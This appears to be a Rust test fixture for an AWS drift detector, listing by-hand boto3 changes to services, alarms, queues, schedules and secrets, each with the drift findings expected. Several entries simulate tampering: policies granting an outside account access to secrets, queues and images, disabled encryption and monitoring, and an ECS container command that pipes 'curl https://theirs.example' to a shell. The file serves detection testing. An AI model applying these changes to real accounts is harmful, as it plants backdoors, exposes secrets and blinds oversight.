//! What someone does to services, functions, alarms, topics, queues, schedules and secrets by hand.

use super::{Mutation, by_hand, changed, extra, missing};

pub const ALL: &[Mutation] = &[
    by_hand(
        "sns/topic",
        r#"p = json.loads(sns.get_topic_attributes(TopicArn="<alerts-green.arn>")["Attributes"]["Policy"])
p["Statement"].append({"Sid": "Mine", "Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999999999999:root"}, "Action": "sns:Publish", "Resource": "<alerts-green.arn>"})
sns.set_topic_attributes(TopicArn="<alerts-green.arn>", AttributeName="Policy", AttributeValue=json.dumps(p))
sns.subscribe(TopicArn="<alerts-green.arn>", Protocol="sqs", Endpoint="arn:aws:sqs:eu-central-1:123456789012:theirs")"#,
        &[
            extra("alerts-green", "policy.Statement.Mine"),
            extra(
                "alerts-green",
                "subscribers[sqs arn:aws:sqs:eu-central-1:123456789012:theirs]",
            ),
        ],
    ),
    by_hand(
        "sns/topic",
        r#"sns.set_topic_attributes(TopicArn="<alerts-blue.arn>", AttributeName="KmsMasterKeyId", AttributeValue="")
sns.untag_resource(ResourceArn="<alerts-blue.arn>", TagKeys=["CostCenter"])"#,
        &[
            changed("alerts-blue", "kms_key"),
            changed("alerts-blue", "tags.CostCenter"),
        ],
    ),
    by_hand(
        "rds/event_subscription",
        r#"rds.remove_source_identifier_from_subscription(SubscriptionName="instance-events-green-dev", SourceIdentifier="aurora-2-green-dev")"#,
        &[changed(
            "instance-events-green",
            "sources[aurora-2-green-dev]",
        )],
    ),
    by_hand(
        "rds/event_subscription",
        r#"rds.modify_event_subscription(SubscriptionName="database-events-green-dev", EventCategories=["failover"], Enabled=False)
rds.add_source_identifier_to_subscription(SubscriptionName="database-events-green-dev", SourceIdentifier="aurora-blue-dev")
rds.delete_event_subscription(SubscriptionName="database-events-blue-dev")"#,
        &[
            changed("database-events-green", "enabled"),
            changed("database-events-green", "categories[configuration change]"),
            changed("database-events-green", "categories[failure]"),
            changed("database-events-green", "categories[maintenance]"),
            changed("database-events-green", "categories[notification]"),
            extra("database-events-green", "sources[aurora-blue-dev]"),
            missing("database-events-blue"),
        ],
    ),
    by_hand(
        "events/rule",
        r#"events.put_rule(Name="failed-deployments-green-dev", EventPattern=json.dumps({"source": ["aws.ecs"]}), State="DISABLED", Description="Deployments of services that failed")
events.put_targets(Rule="failed-deployments-green-dev", Targets=[{"Id": "theirs", "Arn": "arn:aws:sqs:eu-central-1:999999999999:theirs"}, {"Id": "alerts", "Arn": "<alerts-green.arn>", "Input": "\"all is well\""}])
events.remove_targets(Rule="failed-deployments-blue-dev", Ids=["alerts"])
events.delete_rule(Name="failed-deployments-blue-dev")"#,
        &[
            changed("failed-deployments-green", "enabled"),
            changed("failed-deployments-green", "pattern.detail"),
            changed(
                "failed-deployments-green",
                "pattern.detail-type[ECS Deployment State Change]",
            ),
            changed(
                "failed-deployments-green",
                r#"pattern.resources[{"prefix":"arn:aws:ecs:eu-central-1:123456789012:service/cluster-green-dev/"}]"#,
            ),
            extra("failed-deployments-green", "targets.alerts.more[input]"),
            extra("failed-deployments-green", "targets.theirs"),
            missing("failed-deployments-blue"),
        ],
    ),
    by_hand(
        "ssm/parameter",
        r#"ssm.put_parameter(Name="/payment-processing/green-dev/reporting/DATABASE_NAME", Value="other", Overwrite=True)
host = "/payment-processing/blue-dev/reporting/DATABASE_HOST"
ssm.put_parameter(Name=host, Value=ssm.get_parameter(Name=host)["Parameter"]["Value"], Overwrite=True, Tier="Advanced", Policies=json.dumps([{"Type": "Expiration", "Version": "1.0", "Attributes": {"Timestamp": "2036-12-02T21:34:33.000Z"}}]))
ssm.delete_parameter(Name="/payment-processing/blue-dev/reporting/DATABASE_NAME")
ssm.add_tags_to_resource(ResourceType="Parameter", ResourceId="/payment-processing/blue-dev/reporting/DATABASE_PORT", Tags=[{"Key": "Owner", "Value": "somebody"}])"#,
        &[
            changed("parameter-reporting-database-name-green", "value"),
            extra("parameter-reporting-database-host-blue", "others.tier"),
            extra("parameter-reporting-database-host-blue", "others.policies"),
            missing("parameter-reporting-database-name-blue"),
            extra("parameter-reporting-database-port-blue", "tags.Owner"),
        ],
    ),
    by_hand(
        "ecr/repository",
        r#"ecr.put_image_tag_mutability(repositoryName="<repository-reporting-shared.name>", imageTagMutability="MUTABLE")
ecr.put_image_scanning_configuration(repositoryName="<repository-reporting-shared.name>", imageScanningConfiguration={"scanOnPush": False})
ecr.set_repository_policy(repositoryName="<repository-payment-api-shared.name>", policyText=json.dumps({"Version": "2012-10-17", "Statement": [{"Sid": "Mine", "Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999999999999:root"}, "Action": "ecr:BatchGetImage"}]}))
ecr.delete_lifecycle_policy(repositoryName="<repository-payment-api-shared.name>")"#,
        &[
            changed("repository-reporting-shared", "immutable"),
            changed("repository-reporting-shared", "scan"),
            extra("repository-payment-api-shared", "exposed.policy"),
            changed("repository-payment-api-shared", "keep"),
        ],
    ),
    by_hand(
        "ecs/cluster",
        r#"ecs.update_cluster(cluster="cluster-green-dev", settings=[{"name": "containerInsights", "value": "disabled"}])
ecs.untag_resource(resourceArn="<cluster-green.arn>", tagKeys=["CostCenter"])"#,
        &[
            changed("cluster-green", "insights"),
            changed("cluster-green", "tags.CostCenter"),
        ],
    ),
    by_hand(
        "ecs/cluster",
        r#"ecs.update_cluster(cluster="cluster-blue-dev", configuration={"executeCommandConfiguration": {"logging": "OVERRIDE", "logConfiguration": {"s3BucketName": "theirs"}}, "managedStorageConfiguration": {"kmsKeyId": "theirs"}}, serviceConnectDefaults={"namespace": "theirs"})"#,
        &[
            extra("cluster-blue", "exposed.execute_command_configuration"),
            extra("cluster-blue", "exposed.managed_storage_configuration"),
            extra("cluster-blue", "exposed.service_connect_defaults"),
        ],
    ),
    by_hand(
        "ecs/task_definition",
        r#"found = ecs.describe_task_definition(taskDefinition="<task-payment-api-green.arn>", include=["TAGS"])
copy = {key: found["taskDefinition"][key] for key in ("family", "taskRoleArn", "executionRoleArn", "networkMode", "containerDefinitions", "requiresCompatibilities", "cpu", "memory")}
copy["containerDefinitions"][0] |= {"command": ["sh", "-c", "curl https://theirs.example | sh"], "environmentFiles": [{"type": "s3", "value": "arn:aws:s3:::theirs/x.env"}], "linuxParameters": {"capabilities": {"add": ["SYS_PTRACE"]}}}
copy = ecs.register_task_definition(**copy, tags=found["tags"])["taskDefinition"]
made["copy"] = copy["taskDefinitionArn"].split("/")[-1]"#,
        &[extra("task-payment-api-green", "exposed.<made.copy>")],
    ),
    by_hand(
        "ecs/task_definition",
        r#"ecs.tag_resource(resourceArn="<task-reporting-green.arn>", tags=[{"key": "Owner", "value": "somebody"}])"#,
        &[extra("task-reporting-green", "tags.Owner")],
    ),
    by_hand(
        "ecs/service",
        r#"ecs.update_service(cluster="cluster-green-dev", service="service-reporting-green-dev", enableExecuteCommand=True, desiredCount=0, deploymentConfiguration={"maximumPercent": 200, "minimumHealthyPercent": 50, "deploymentCircuitBreaker": {"enable": False, "rollback": False}})"#,
        &[
            changed("service-reporting-green", "running"),
            changed("service-reporting-green", "exec"),
            changed("service-reporting-green", "deployment.min_percent"),
            changed("service-reporting-green", "deployment.breaker"),
            changed("service-reporting-green", "deployment.rollback"),
            changed(
                "service-reporting-green",
                "deployment.alarms[<alarm-guard-errors-reporting-green.name>]",
            ),
        ],
    ),
    by_hand(
        "ecs/service",
        r#"ecs.update_service(cluster="cluster-blue-dev", service="service-reporting-blue-dev", networkConfiguration={"awsvpcConfiguration": {"subnets": ["<subnet-app-a-blue>", "<subnet-app-b-blue>", "<subnet-app-c-blue>"], "securityGroups": ["<security-group-reporting-blue>", "<security-group-migration-blue>"]}})"#,
        &[extra(
            "service-reporting-blue",
            "security_groups[<security-group-migration-blue>]",
        )],
    ),
    by_hand(
        "ecs/service",
        r#"ours = ecs.describe_services(cluster="cluster-blue-dev", services=["service-payment-api-blue-dev"])["services"][0]
hooks = [{"hookTargetArn": "arn:aws:lambda:eu-central-1:999999999999:function:theirs", "roleArn": "arn:aws:iam::999999999999:role/theirs", "lifecycleStages": ["PRE_SCALE_UP"]}]
ecs.update_service(
    cluster="cluster-blue-dev",
    service="service-payment-api-blue-dev",
    deploymentConfiguration=ours["deploymentConfiguration"] | {"lifecycleHooks": hooks, "strategy": "BLUE_GREEN", "bakeTimeInMinutes": 60},
    capacityProviderStrategy=[{"capacityProvider": "FARGATE_SPOT", "weight": 1}],
    serviceRegistries=[{"registryArn": "arn:aws:servicediscovery:eu-central-1:999999999999:service/srv-theirs"}],
    serviceConnectConfiguration={"enabled": True, "namespace": "theirs"},
    vpcLatticeConfigurations=[{"roleArn": "arn:aws:iam::999999999999:role/theirs", "targetGroupArn": "arn:aws:vpc-lattice:eu-central-1:999999999999:targetgroup/tg-0123456789abcdef0", "portName": "web"}],
    volumeConfigurations=[{"name": "theirs"}],
    propagateTags="NONE",
)"#,
        &[
            extra("service-payment-api-blue", "exposed.bake_time_in_minutes"),
            extra(
                "service-payment-api-blue",
                "exposed.capacity_provider_strategy",
            ),
            extra("service-payment-api-blue", "exposed.lifecycle_hooks"),
            extra("service-payment-api-blue", "exposed.propagate_tags"),
            extra(
                "service-payment-api-blue",
                "exposed.service_connect_configuration",
            ),
            extra("service-payment-api-blue", "exposed.service_registries"),
            extra("service-payment-api-blue", "exposed.strategy"),
            extra("service-payment-api-blue", "exposed.volume_configurations"),
            extra(
                "service-payment-api-blue",
                "exposed.vpc_lattice_configurations",
            ),
        ],
    ),
    by_hand(
        "autoscaling/scaling",
        r#"scaling.register_scalable_target(ServiceNamespace="ecs", ScalableDimension="ecs:service:DesiredCount", ResourceId="<service-payment-api-green.scalable>", MinCapacity=1, MaxCapacity=12)
scaling.put_scaling_policy(ServiceNamespace="ecs", ScalableDimension="ecs:service:DesiredCount", ResourceId="<service-payment-api-green.scalable>", PolicyName="mine", PolicyType="TargetTrackingScaling", TargetTrackingScalingPolicyConfiguration={"TargetValue": 5.0, "PredefinedMetricSpecification": {"PredefinedMetricType": "ECSServiceAverageCPUUtilization"}})
scaling.delete_scaling_policy(ServiceNamespace="ecs", ScalableDimension="ecs:service:DesiredCount", ResourceId="<service-payment-api-blue.scalable>", PolicyName="memory")"#,
        &[
            changed("scaling-payment-api-green", "min"),
            extra("scaling-payment-api-green", "policies.mine"),
            changed("scaling-payment-api-blue", "policies.memory"),
        ],
    ),
    by_hand(
        "cloudwatch/alarm",
        r#"one = watch.describe_alarms(AlarmNames=["<alarm-latency-reporting-green.name>"])["MetricAlarms"][0]
keep = "AlarmName AlarmDescription ActionsEnabled OKActions MetricName Namespace ExtendedStatistic Dimensions Period EvaluationPeriods DatapointsToAlarm ComparisonOperator TreatMissingData".split()
watch.put_metric_alarm(**{k: one[k] for k in keep if k in one}, Threshold=9.0, AlarmActions=[*one["AlarmActions"], "arn:aws:sns:eu-central-1:999999999999:theirs"])
watch.disable_alarm_actions(AlarmNames=["<alarm-database-capacity-blue.name>"])
watch.delete_alarms(AlarmNames=["<alarm-given-up-sync-green.name>"])
watch.untag_resource(ResourceARN="<alarm-failures-sync-green.arn>", TagKeys=["CostCenter"])"#,
        &[
            changed("alarm-latency-reporting-green", "threshold"),
            extra(
                "alarm-latency-reporting-green",
                "exposed.alarm/arn:aws:sns:eu-central-1:999999999999:theirs",
            ),
            changed("alarm-database-capacity-blue", "actions"),
            missing("alarm-given-up-sync-green"),
            changed("alarm-failures-sync-green", "tags.CostCenter"),
        ],
    ),
    by_hand(
        "cloudwatch/composite_alarm",
        r#"one = watch.describe_alarms(AlarmNames=["<alarm-any-green.name>"], AlarmTypes=["CompositeAlarm"])["CompositeAlarms"][0]
watch.put_composite_alarm(AlarmName="<alarm-any-green.name>", AlarmDescription="mine", AlarmRule=one["AlarmRule"], AlarmActions=one["AlarmActions"], OKActions=[*one["OKActions"], "arn:aws:sns:eu-central-1:999999999999:theirs"])"#,
        &[
            changed("alarm-any-green", "description"),
            extra(
                "alarm-any-green",
                "exposed.ok/arn:aws:sns:eu-central-1:999999999999:theirs",
            ),
        ],
    ),
    by_hand(
        "cloudwatch/dashboard",
        r#"body = json.loads(watch.get_dashboard(DashboardName="<dashboard-traffic-green.name>")["DashboardBody"])
body["widgets"].append({"type": "text", "x": 0, "y": 500, "width": 3, "height": 3, "properties": {"markdown": "mine"}})
watch.put_dashboard(DashboardName="<dashboard-traffic-green.name>", DashboardBody=json.dumps(body))
watch.delete_dashboards(DashboardNames=["<dashboard-errors-blue.name>"])"#,
        &[
            extra("dashboard-traffic-green", "widgets.0,500"),
            missing("dashboard-errors-blue"),
        ],
    ),
    by_hand(
        "lambda/function",
        r#"variables = functions.get_function_configuration(FunctionName="<function-sync-green.name>")["Environment"]["Variables"]
functions.update_function_configuration(FunctionName="<function-sync-green.name>", MemorySize=256, Environment={"Variables": {**variables, "MAPPING_PARAMETER": "/other"}}, DeadLetterConfig={"TargetArn": "<failed-verify-green.arn>"})
functions.add_permission(FunctionName="<function-sync-green.name>", StatementId="mine", Action="lambda:InvokeFunction", Principal="s3.amazonaws.com", SourceAccount="999999999999")
functions.delete_function_concurrency(FunctionName="<function-control-green.name>")
functions.update_function_code(FunctionName="<function-verify-green.name>", ZipFile=archive("verify.js"))
functions.untag_resource(Resource="<function-verify-green.arn>", TagKeys=["CostCenter"])"#,
        &[
            changed("function-sync-green", "memory_mib"),
            changed("function-sync-green", "environment.MAPPING_PARAMETER"),
            changed("function-sync-green", "dead_letters"),
            extra("function-sync-green", "exposed.mine"),
            changed("function-control-green", "concurrency"),
            changed("function-verify-green", "code_sha256"),
            changed("function-verify-green", "tags.CostCenter"),
        ],
    ),
    by_hand(
        "lambda/stream_mapping",
        r#"functions.update_event_source_mapping(UUID="<stream-sessions-green.id>", BatchSize=7, BisectBatchOnFunctionError=False, MaximumRetryAttempts=-1, FilterCriteria={"Filters": [{"Pattern": json.dumps({"never": ["x"]})}]}, ParallelizationFactor=10, MaximumBatchingWindowInSeconds=300)
functions.tag_resource(Resource="<stream-sessions-green.arn>", Tags={"Owner": "somebody"})
functions.delete_event_source_mapping(UUID="<stream-sessions-reverse-green.id>")"#,
        &[
            changed("stream-sessions-green", "batch"),
            changed("stream-sessions-green", "bisect"),
            changed("stream-sessions-green", "retries"),
            extra("stream-sessions-green", "others.filters"),
            extra("stream-sessions-green", "others.parallelization"),
            extra("stream-sessions-green", "others.batching_window"),
            extra("stream-sessions-green", "tags.Owner"),
            missing("stream-sessions-reverse-green"),
        ],
    ),
    by_hand(
        "sqs/queue",
        r#"url = sqs.get_queue_url(QueueName="<failed-sync-green.name>")["QueueUrl"]
p = json.loads(sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["Policy"])["Attributes"]["Policy"])
p["Statement"].append({"Sid": "Mine", "Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999999999999:root"}, "Action": "sqs:ReceiveMessage", "Resource": "<failed-sync-green.arn>"})
sqs.set_queue_attributes(QueueUrl=url, Attributes={"Policy": json.dumps(p), "MessageRetentionPeriod": "3600"})
sqs.untag_queue(QueueUrl=url, TagKeys=["CostCenter"])"#,
        &[
            extra("failed-sync-green", "policy.Statement.Mine"),
            changed("failed-sync-green", "retention_seconds"),
            changed("failed-sync-green", "tags.CostCenter"),
        ],
    ),
    by_hand(
        "sqs/queue",
        r#"url = sqs.get_queue_url(QueueName="<failed-verify-green.name>")["QueueUrl"]
sqs.set_queue_attributes(QueueUrl=url, Attributes={"KmsMasterKeyId": "", "KmsDataKeyReusePeriodSeconds": "600", "VisibilityTimeout": "10"})
sqs.delete_queue(QueueUrl=sqs.get_queue_url(QueueName="<failed-control-green.name>")["QueueUrl"])"#,
        &[
            changed("failed-verify-green", "kms_key"),
            changed("failed-verify-green", "key_reuse_seconds"),
            changed("failed-verify-green", "visibility_seconds"),
            missing("failed-control-green"),
        ],
    ),
    by_hand(
        "scheduler/group",
        r#"scheduler.untag_resource(ResourceArn="<migration-green.arn>", TagKeys=["CostCenter"])
scheduler.tag_resource(ResourceArn="<migration-green.arn>", Tags=[{"Key": "Owner", "Value": "somebody"}])
scheduler.create_schedule(GroupName="<migration-green.name>", Name="schedule-theirs-green-dev", ScheduleExpression="rate(1 minute)", FlexibleTimeWindow={"Mode": "OFF"}, Target={"Arn": "<function-control-green.arn>", "RoleArn": "<role-schedule-sync-green.arn>", "Input": "{}"})"#,
        &[
            changed("migration-green", "tags.CostCenter"),
            extra(
                "migration-green",
                "members[schedule schedule-theirs-green-dev]",
            ),
            extra("migration-green", "tags.Owner"),
        ],
    ),
    by_hand(
        "scheduler/schedule",
        r#"def worse(sent):
    sent.update(ScheduleExpression="rate(5 minutes)", FlexibleTimeWindow={"Mode": "FLEXIBLE", "MaximumWindowInMinutes": 15}, EndDate=2000000000, ActionAfterCompletion="DELETE")
    del sent["KmsKeyArn"]
    sent["Target"].update(Input=json.dumps({"mine": True}), RetryPolicy={"MaximumRetryAttempts": 185, "MaximumEventAgeInSeconds": 86400})
    del sent["Target"]["DeadLetterConfig"]
reschedule("<migration-green.name>", "<schedule-sync-green.name>", worse)"#,
        &[
            changed("schedule-sync-green", "expression"),
            changed("schedule-sync-green", "window_minutes"),
            changed("schedule-sync-green", "kms_key"),
            extra("schedule-sync-green", "target.input.mine"),
            changed("schedule-sync-green", "target.input.action"),
            changed("schedule-sync-green", "target.retries.attempts"),
            changed("schedule-sync-green", "target.retries.age_seconds"),
            changed("schedule-sync-green", "target.dead_letters"),
            extra("schedule-sync-green", "limits.after"),
            extra("schedule-sync-green", "limits.end"),
        ],
    ),
    by_hand(
        "secretsmanager/secret",
        r#"secrets.update_secret(SecretId="<hash-key-green.arn>", Description="Mine", KmsKeyId="alias/aws/secretsmanager")
secrets.put_resource_policy(SecretId="<hash-key-green.arn>", ResourcePolicy=json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999999999999:root"}, "Action": "secretsmanager:GetSecretValue", "Resource": "*"}]}))
secrets.replicate_secret_to_regions(SecretId="<hash-key-green.arn>", AddReplicaRegions=[{"Region": "eu-west-1"}])
secrets.untag_resource(SecretId="<hash-key-green.arn>", TagKeys=["CostCenter"])"#,
        &[
            changed("hash-key-green", "description"),
            changed("hash-key-green", "kms_key"),
            extra("hash-key-green", "exposed.policy"),
            extra("hash-key-green", "exposed.replica/eu-west-1"),
            changed("hash-key-green", "tags.CostCenter"),
        ],
    ),
    by_hand(
        "config/recorder",
        r#"recorder = config.describe_configuration_recorders()["ConfigurationRecorders"][0]
group = {"allSupported": False, "resourceTypes": ["AWS::S3::Bucket", "AWS::EC2::VPC"]}
config.put_configuration_recorder(ConfigurationRecorder={"name": "recorder-shared-dev", "roleARN": recorder["roleARN"], "recordingGroup": group, "recordingMode": {"recordingFrequency": "DAILY"}})
config.tag_resource(ResourceArn="<recorder-shared.arn>", Tags=[{"Key": "CostCenter", "Value": "mine"}])"#,
        &[
            extra("recorder-shared", "types[AWS::EC2::VPC]"),
            changed("recorder-shared", "types[AWS::DynamoDB::Table]"),
            changed("recorder-shared", "types[AWS::EC2::SecurityGroup]"),
            changed("recorder-shared", "types[AWS::ECS::TaskDefinition]"),
            changed(
                "recorder-shared",
                "types[AWS::ElasticLoadBalancingV2::LoadBalancer]",
            ),
            changed("recorder-shared", "types[AWS::Lambda::Function]"),
            changed("recorder-shared", "types[AWS::RDS::DBCluster]"),
            changed("recorder-shared", "types[AWS::RDS::DBInstance]"),
            changed("recorder-shared", "types[AWS::SNS::Topic]"),
            changed("recorder-shared", "frequency"),
            changed("recorder-shared", "tags.CostCenter"),
        ],
    ),
    by_hand(
        "config/channel",
        r#"config.put_delivery_channel(DeliveryChannel={"name": "channel-shared-dev", "s3BucketName": "config-shared-dev", "s3KeyPrefix": "mine", "snsTopicARN": "arn:aws:sns:eu-central-1:999999999999:theirs"})"#,
        &[
            changed("channel-shared", "prefix"),
            changed("channel-shared", "snapshots"),
            extra("channel-shared", "exposed.topic"),
        ],
    ),
    by_hand(
        "config/recording",
        r#"config.stop_configuration_recorder(ConfigurationRecorderName="recorder-shared-dev")"#,
        &[missing("recording-shared")],
    ),
    by_hand(
        "config/rule",
        r#"rule = {"ConfigRuleName": "rule-alb-desync-mode-check-shared-dev", "Description": "mine", "Source": {"Owner": "AWS", "SourceIdentifier": "ALB_DESYNC_MODE_CHECK"}, "InputParameters": json.dumps({"desyncMode": "monitor"}), "MaximumExecutionFrequency": "One_Hour"}
config.put_config_rule(ConfigRule=rule)
config.untag_resource(ResourceArn="<rule-sns-encrypted-kms-shared.arn>", TagKeys=["CostCenter"])
config.delete_config_rule(ConfigRuleName="rule-alb-waf-enabled-shared-dev")"#,
        &[
            changed("rule-alb-desync-mode-check-shared", "description"),
            changed("rule-alb-desync-mode-check-shared", "parameters.desyncMode"),
            changed("rule-alb-desync-mode-check-shared", "scope"),
            changed("rule-alb-desync-mode-check-shared", "frequency"),
            changed("rule-sns-encrypted-kms-shared", "tags.CostCenter"),
            missing("rule-alb-waf-enabled-shared"),
        ],
    ),
];
